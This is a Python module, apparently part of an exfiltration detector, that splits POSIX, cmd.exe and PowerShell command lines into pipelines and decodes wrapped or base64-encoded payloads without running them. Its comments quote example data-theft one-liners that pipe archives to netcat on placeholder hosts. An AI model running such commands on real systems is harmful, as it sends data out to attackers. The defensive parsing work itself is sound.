"""Command lines into argument vectors and shell pipelines, without ever running them.

Attackers hide the interesting command inside a wrapper (`sh -c "tar czf - /data | nc x 4444"`,
`cmd.exe /c "rar a ..."`, `powershell -enc ...`), so the detector analyses each command of the
pipeline a wrapper carries, remembering what is piped or redirected into it. Command lines are
attacker-controlled text: they are only tokenised here, never interpreted by a shell.
"""

from __future__ import annotations

import base64
import binascii
import re
import shlex
from dataclasses import dataclass, field
from functools import lru_cache

_VERSIONED = re.compile(r"^(python|pypy|pwsh)[\d.]*$")
_OPERATORS = frozenset({"|", "||", "&&", ";", "&", ";;", "|&", "\n"})
_WIN_OPERATORS = re.compile(r'(\|\||&&|[|&])(?=(?:[^"]*"[^"]*")*[^"]*$)')
_MAX_PAYLOAD = 64 * 1024  # longer wrapper payloads are cut: enough for any real one-liner


@lru_cache(maxsize=8192)
def exe_name(path: str | None) -> str:
    """Executable name as the catalog spells it: basename, lower case, no .exe, no version."""
    if not path:
        return ""
    path = path.strip('"')
    cut = max(path.rfind("/"), path.rfind("\\"))
    name = path[cut + 1 :].lower()
    if name.endswith(".exe"):
        name = name[:-4]
    versioned = _VERSIONED.match(name)
    return versioned.group(1) if versioned else name


_DRIVE = re.compile(r"(?:^|[\s\"'=])[A-Za-z]:\\")


def looks_windows(cmd_line: str, path: str | None) -> bool:
    """Windows command lines keep backslashes literal, so they must not go through shlex."""
    head = (path or cmd_line)[:260]
    return "\\" in head or head.lower().endswith(".exe") or bool(_DRIVE.search(cmd_line))


def split_posix(text: str) -> list[str]:
    try:
        return shlex.split(text, posix=True)
    except ValueError:  # unbalanced quotes: attacker text need not be well formed
        return text.split()


def split_windows(text: str) -> list[str]:
    """CommandLineToArgvW's rules: double quotes group; backslashes are literal except before a
    double quote, where 2n of them give n and the quote groups, 2n+1 give n and a literal quote
    (`-Command "Compress-Archive -DestinationPath \\"$out\\x.zip\\""` keeps its quotes)."""
    args: list[str] = []
    current: list[str] = []
    quoted = False
    started = False
    slashes = 0
    for char in text:
        if char == "\\":
            slashes += 1
            started = True
            continue
        if char == '"':
            current.append("\\" * (slashes // 2))
            if slashes % 2:
                current.append('"')
            else:
                quoted = not quoted
            slashes = 0
            started = True
            continue
        if slashes:
            current.append("\\" * slashes)
            slashes = 0
        if char in " \t" and not quoted:
            if started:
                args.append("".join(current))
                current, started = [], False
        else:
            current.append(char)
            started = True
    if slashes:
        current.append("\\" * slashes)
    if started:
        args.append("".join(current))
    return args


def split_command(cmd_line: str, path: str | None) -> list[str]:
    """The argv of a command line; the same lines recur constantly, so splits are cached."""
    return list(_split_cached(cmd_line, path))


@lru_cache(maxsize=8192)
def _split_cached(cmd_line: str, path: str | None) -> tuple[str, ...]:
    if looks_windows(cmd_line, path):
        return tuple(split_windows(cmd_line))
    return tuple(split_posix(cmd_line))


@dataclass(slots=True)
class Command:
    """One simple command of a pipeline, with what feeds it."""

    argv: list[str]
    stdin_file: str | None = None
    piped_in: bool = False
    stdout_file: str | None = None
    piped_out: bool = False
    upstream: list[str] = field(default_factory=list)  # argv of the command piping into this one


def parse_posix_pipeline(text: str) -> list[Command]:
    lexer = shlex.shlex(text[:_MAX_PAYLOAD], posix=True, punctuation_chars=";&|<>")
    lexer.whitespace_split = True
    try:
        tokens = list(lexer)
    except ValueError:
        tokens = text[:_MAX_PAYLOAD].split()
    commands: list[Command] = []
    current = Command(argv=[])
    pending_redirect: str | None = None
    for token in tokens:
        if pending_redirect is not None:
            if pending_redirect == "<":
                current.stdin_file = token
            else:
                current.stdout_file = token
            pending_redirect = None
        elif token in ("<", ">", ">>", "<<", "<<<", "&>", ">&", "2>", "1>"):
            pending_redirect = "<" if token.startswith("<") else ">"
        elif token in _OPERATORS:
            piped = token in ("|", "|&")
            current.piped_out = piped
            if current.argv:
                commands.append(current)
            current = Command(argv=[], piped_in=piped, upstream=current.argv if piped else [])
        else:
            current.argv.append(token)
    if current.argv:
        commands.append(current)
    for command in commands:
        command.argv = strip_prefixes(command.argv)
    return commands


# Words that start a shell command without being it: `for f in x; do nc h 1 < "$f"; done`,
# `if tar czf a /d; then ...`, `FOO=1 exec nohup tar ...`.
_KEYWORDS = frozenset(
    {"if", "then", "else", "elif", "do", "while", "until", "!", "{", "(", "time", "exec",
     "nohup", "command", "builtin", "setsid", "stdbuf", "nice", "ionice", "env"}
)  # fmt: skip


def strip_prefixes(argv: list[str]) -> list[str]:
    """The command a shell runs, without keywords, wrappers and variable assignments."""
    index = 0
    while index < len(argv):
        word = argv[index]
        if word in _KEYWORDS or _ASSIGNMENT.match(word):
            index += 1
        elif word == "sudo":
            index += 1
            while index < len(argv) and argv[index].startswith("-"):
                index += 2 if argv[index] in ("-u", "-g", "-C") else 1
        else:
            break
    return argv[index:]


_ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")


def parse_cmd_pipeline(text: str) -> list[Command]:
    """cmd.exe: split on & && || | outside double quotes."""
    parts = _WIN_OPERATORS.split(text[:_MAX_PAYLOAD])
    commands: list[Command] = []
    piped = False
    upstream: list[str] = []
    for index in range(0, len(parts), 2):
        argv = split_windows(parts[index].strip())
        operator = parts[index + 1] if index + 1 < len(parts) else ""
        stdin_file = None
        if "<" in argv:
            at = argv.index("<")
            stdin_file = argv[at + 1] if at + 1 < len(argv) else None
            argv = argv[:at]
        if argv:
            commands.append(
                Command(argv, stdin_file, piped, None, operator == "|", upstream if piped else [])
            )
        piped, upstream = operator == "|", argv
    return commands


def cmd_payload(cmd_line: str) -> str | None:
    """The command string of `cmd.exe /c ...` from the raw command line (quotes kept)."""
    match = re.search(r"(?i)(?:^|\s)/[ck]\s*", cmd_line)
    if not match:
        return None
    payload = cmd_line[match.end() :].strip()
    if len(payload) >= 2 and payload[0] == '"' and payload[-1] == '"':
        payload = payload[1:-1]
    return payload


_PS_COMMAND = frozenset({"-command", "-c", "-com", "-comm", "/c", "/command"})
_PS_ENCODED = frozenset({"-encodedcommand", "-enc", "-e", "-ec", "-en", "/enc", "/encodedcommand"})


def powershell_payload(argv: list[str]) -> str | None:
    """The script text of `powershell -Command ...` or `-EncodedCommand <base64 UTF-16LE>`."""
    for index, arg in enumerate(argv[1:], start=1):
        lowered = arg.lower()
        if lowered in _PS_ENCODED and index + 1 < len(argv):
            try:
                return base64.b64decode(argv[index + 1], validate=False).decode("utf-16-le")
            except (binascii.Error, UnicodeDecodeError, ValueError):
                return None
        if lowered in _PS_COMMAND:
            return " ".join(argv[index + 1 :])
    if len(argv) > 1 and not argv[1].startswith(("-", "/")):
        return " ".join(argv[1:])  # `powershell Compress-Archive ...`: the command is positional
    return None


def posix_payload(argv: list[str]) -> str | None:
    """The command string of `sh -c '...'` (also `bash -lc`, `busybox sh -c`)."""
    args = argv[1:]
    if args and exe_name(argv[0]) == "busybox" and args[0] in ("sh", "ash", "bash"):
        args = args[1:]
    for index, arg in enumerate(args):
        if arg.startswith("-") and not arg.startswith("--") and "c" in arg[1:]:
            rest = args[index + 1 :]
            if len(rest) > 1 and " " not in rest[0]:
                # Producers that join argv unquoted (Falco's proc.cmdline, Docker's exec
                # action) turn `sh -c "nc h 1 < f"` into words: the payload is all of them.
                return " ".join(rest)
            return rest[0] if rest else None
        if not arg.startswith("-"):
            return None
    return None
